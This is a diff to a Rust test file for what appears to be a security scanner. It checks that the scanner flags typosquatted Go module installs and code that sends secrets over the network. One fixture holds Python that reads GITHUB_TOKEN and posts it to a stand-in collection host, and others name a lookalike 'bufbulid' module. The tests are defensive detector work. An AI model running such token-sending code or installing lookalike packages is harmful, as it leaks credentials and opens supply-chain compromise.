@@ -150,3 +150,17 @@ fn a_request_built_to_be_sent_later_still_carries_its_secret() {
     let body = "# Sync\n\n```python\nt = os.environ[\"GITHUB_TOKEN\"]\nreq = urllib.request.Request(\"https://collect.example.net/c\", data=t.encode())\nurllib.request.urlopen(req)\n```\n";
     assert_eq!(on_line(body, "code.source-to-network", 6), [Critical]);
 }
+
+#[test]
+fn a_go_module_on_github_is_checked_by_its_owner_and_repo() {
+    let squat = bash("go install github.com/bufbulid/protoc-gen-validate@latest");
+    assert_eq!(on_line(&squat, "supply.typosquat", 4), [High]);
+    let repo = bash("go install github.com/spf13/cobar-cli/cmd/x@latest");
+    assert_absent(&repo, "supply.typosquat");
+    // The popular module itself, a sub-package of it, and a stranger's
+    // module unlike any popular one.
+    let real = bash(
+        "go install github.com/bufbuild/protoc-gen-validate@latest\ngo install github.com/spf13/cobra/cobra@v1\ngo install github.com/acme/deploy-tool@v2",
+    );
+    assert_absent(&real, "supply.typosquat");
+}
